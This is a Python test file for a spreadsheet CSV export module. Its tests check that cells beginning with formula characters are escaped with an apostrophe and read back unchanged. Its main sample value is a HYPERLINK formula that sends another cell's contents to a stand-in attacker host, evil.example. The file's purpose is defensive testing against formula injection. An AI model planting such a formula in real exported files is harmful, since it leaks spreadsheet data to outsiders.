"""Exported cells cannot be formulas, and an exported cell reads back as it was."""

import csv
import io

import pytest

from resolvers.spreadsheets import CsvSheet, safe_cell, unescape_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&G2,"详情")'


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+86 139", "'+86 139"),
        ("-1-101", "'-1-101"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),
        ("'=already", "''=already"),
        ("张三", "张三"),
        ("13912345678", "13912345678"),
        ("520302********0014", "520302********0014"),
        ("1990-01-01", "1990-01-01"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, exported: str) -> None:
    assert safe_cell(value) == exported
    assert unescape_cell(safe_cell(value)) == value


def test_a_hand_written_apostrophe_is_kept_on_import() -> None:
    assert unescape_cell("'abc") == "'abc"


def test_every_cell_of_a_sheet_goes_through_the_escape() -> None:
    sheet = CsvSheet(["name", "=header"])
    sheet.add_rows([[HYPERLINK, "-5"], ["王五", "12"]])
    rows = list(csv.reader(io.StringIO(sheet.text())))
    assert rows == [["name", "'=header"], ["'" + HYPERLINK, "'-5"], ["王五", "12"]]
